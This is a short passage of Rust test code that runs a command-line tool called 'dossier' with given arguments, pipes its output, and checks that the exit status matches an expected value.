        let status = common::Dossier::new()
            .command(args)
            .stdout(writer.try_clone().expect("the pipe again"))
            .stderr(writer)
            .status()
            .expect("run dossier");
        assert_eq!(status.code(), Some(open.status), "{args:?}: {open}");
    }
}
